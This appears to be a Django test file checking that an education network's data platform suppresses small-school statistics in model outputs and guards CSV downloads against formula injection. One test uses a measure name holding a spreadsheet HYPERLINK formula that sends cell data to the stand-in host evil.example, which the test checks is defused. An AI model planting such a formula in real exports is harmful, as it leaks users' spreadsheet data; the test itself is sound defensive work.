"""Issue 13: every published figure passes disclosure control, and downloads are safe to open.

Each test plays an attack as an outsider (any member of the network) would, through the pages,
CSV files and the API, and shows that it no longer recovers a hidden figure.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from netlearn.impact import selectors, services
from netlearn.impact.models import DatasetKind, ModelRun, PupilRecord, RunStatus

from .factories import finished_run, import_csv, pupil_csv, school_csv


def client_for(person) -> Client:
    client = Client()
    client.force_login(person)
    return client


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode())))


# CSV downloads (item 8) ----------------------------------------------------------------------


def test_a_measure_named_like_a_formula_heads_its_column_as_text_and_empty_cells_stay_empty(
    world,
):
    measure = services.define_measure(
        network=world.network,
        by=world.co_leader,
        name='=HYPERLINK("https://evil.example/?"&A1,"Reading")',
        code="reading-evil",
        unit="%",
    )
    a, b, c = (s.reference for s in (world.school_a, world.school_b, world.school_c))
    # Alder's disadvantage is not known: its cell is empty, not a lone apostrophe.
    text = school_csv(
        [
            (a, 2024, 61.0, 31, None, 1, 1),
            (b, 2024, -2.0, 40, 1, 1, 1),
            (c, 2024, 63.0, 58, 1, 1, 1),
        ]
    )
    dataset = import_csv(world.network, by=world.data_lead, text=text, measure=measure)
    rows = read_csv(client_for(world.teacher).get(reverse("impact:schools_csv", args=[dataset.pk])))
    assert rows[0][2] == "'" + measure.name
    by_school = {row[0]: row for row in rows[1:]}
    assert by_school["Alder Primary"][4] == ""
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


# Model runs (item 3) -------------------------------------------------------------------------


def small_school_pupils(world, *, keep: int = 2):
    """The Exam data's shape: Cedar Academy (URN 900003) holds only `keep` pupils."""
    rows = pupil_csv(world, per_school=12).replace("score,prior", "normexam,standLRT")
    lines = rows.splitlines()
    kept = [lines[0]] + [
        line for line in lines[1:] if not line.startswith("P2") or int(line[2:5]) < keep
    ]
    return import_csv(
        world.network,
        by=world.data_lead,
        text="\n".join(kept) + "\n",
        kind=DatasetKind.PUPIL,
        name="Exam",
        mapping={"pupil": 0, "school": 1, "year": 2, "outcome": 3, "prior": 4, "fsm": 5, "sex": 6},
    )


def test_a_run_publishing_a_school_of_two_pupils_as_a_fixed_effect_is_refused_through_the_api(
    world,
):
    dataset = small_school_pupils(world)
    response = client_for(world.data_lead).post(
        f"/api/v1/impact/datasets/{dataset.pk}/runs",
        {"formula": "normexam ~ school + (1|sex)"},
        content_type="application/json",
    )
    assert response.status_code == 400, response.content
    detail = response.json()["detail"]
    assert "“school”" in detail and "“900003”" in detail and "fewer than 6 pupils" in detail
    assert not ModelRun.objects.exists()


def test_a_run_publishing_a_small_level_is_refused_on_the_page_with_the_term_and_level(world):
    dataset = small_school_pupils(world)
    client = client_for(world.co_leader)
    response = client.post(
        reverse("impact:request_run", args=[dataset.pk]),
        {"formula": "normexam ~ standLRT + school + (1|sex)"},
        follow=True,
    )
    page = response.content.decode()
    assert "“school”" in page and "“900003”" in page and "fewer than 6 pupils" in page
    assert not ModelRun.objects.exists()


def test_a_factor_whose_levels_all_hold_enough_pupils_runs_and_is_published(world):
    dataset = small_school_pupils(world, keep=12)
    run = services.request_run(
        dataset=dataset, by=world.data_lead, formula="normexam ~ standLRT + sex + (1|school)"
    )
    services.run_model(run_id=run.pk)
    run.refresh_from_db()
    assert run.status == RunStatus.DONE, run.error
    fixed = {row["name"]: row for row in selectors.run_report(run=run).fixed}
    assert isinstance(fixed["sexM"]["estimate"], float)
    assert isinstance(fixed["(Intercept)"]["se"], float)
    assert isinstance(fixed["standLRT"]["estimate"], float)


def test_a_run_whose_data_shrank_after_it_was_asked_for_fails_instead_of_publishing(world):
    dataset = small_school_pupils(world, keep=12)
    run = services.request_run(
        dataset=dataset, by=world.data_lead, formula="normexam ~ school + (1|sex)"
    )
    PupilRecord.objects.filter(dataset=dataset, school=world.school_c).exclude(
        pupil__in=["P2000", "P2001"]
    ).delete()
    services.run_model(run_id=run.pk)
    run.refresh_from_db()
    assert run.status == RunStatus.FAILED and "“900003”" in run.error
    assert run.results is None


def fitted_results(**fixed_levels):
    results = {
        "formula": "normexam ~ standLRT + school + (1|sex)",
        "n_obs": 26,
        "n_dropped": 0,
        "fixed_effects": {
            "(Intercept)": {"estimate": 0.1234, "se": 0.2},
            "standLRT": {"estimate": 0.6, "se": 0.05},
            "school900002": {"estimate": 0.4, "se": 0.25},
            "school900003": {"estimate": 0.8123, "se": 0.61},
        },
        "variances": {"sex": 0.01, "Residual": 0.3},
        "icc": 0.03,
        "loglik": -20.0,
        "effects": {},
    }
    if fixed_levels:
        results["fixed_levels"] = fixed_levels
    return results


def test_a_stored_coefficient_on_a_small_level_is_published_as_c(world):
    dataset = small_school_pupils(world)
    run = finished_run(
        dataset,
        by=world.data_lead,
        formula="normexam ~ standLRT + school + (1|sex)",
        results=fitted_results(
            school={
                "levels": ["900001", "900002", "900003"],
                "counts": [12, 12, 2],
                "coefficients": ["school900002", "school900003"],
            }
        ),
    )
    detail = client_for(world.teacher).get(f"/api/v1/impact/runs/{run.pk}").json()
    fixed = {row["name"]: row for row in detail["fixed_effects"]}
    assert fixed["school900003"] == {"name": "school900003", "estimate": "c", "se": "c"}
    assert fixed["school900002"]["estimate"] == 0.4  # rests on 12 and 12 pupils
    assert fixed["standLRT"]["estimate"] == 0.6  # a numeric column rests on every pupil
    assert fixed["(Intercept)"]["estimate"] == 0.1234
    page = client_for(world.teacher).get(run.get_absolute_url()).content.decode()
    assert "0.8123" not in page and "0.6100" not in page


def test_a_small_reference_level_hides_the_intercept_and_the_whole_factor(world):
    dataset = small_school_pupils(world)
    run = finished_run(
        dataset,
        by=world.data_lead,
        formula="normexam ~ standLRT + school + (1|sex)",
        results=fitted_results(
            school={
                "levels": ["900001", "900002", "900003"],
                "counts": [3, 12, 12],
                "coefficients": ["school900002", "school900003"],
            }
        ),
    )
    fixed = {row["name"]: row for row in selectors.run_report(run=run).fixed}
    assert {name for name, row in fixed.items() if row["estimate"] == "c"} == {
        "(Intercept)",
        "school900002",
        "school900003",
    }


def test_a_run_stored_before_levels_were_kept_hides_every_factor_coefficient(world):
    dataset = small_school_pupils(world)
    run = finished_run(
        dataset,
        by=world.data_lead,
        formula="normexam ~ standLRT + school + (1|sex)",
        results=fitted_results(),
    )
    fixed = {row["name"]: row for row in selectors.run_report(run=run).fixed}
    assert fixed["standLRT"]["estimate"] == 0.6
    assert {name for name, row in fixed.items() if row["estimate"] == "c"} == {
        "(Intercept)",
        "school900002",
        "school900003",
    }


@pytest.mark.parametrize("role", ["member", "partner", "school_lead", "safeguarding_lead"])
def test_people_who_only_read_results_do_not_queue_runs(world, role):
    dataset = small_school_pupils(world, keep=12)
    person = world.people_by_role()[role]
    response = client_for(person).post(
        f"/api/v1/impact/datasets/{dataset.pk}/runs",
        {"formula": "normexam ~ standLRT + (1|school)"},
        content_type="application/json",
    )
    assert response.status_code == 403
    assert not ModelRun.objects.exists()
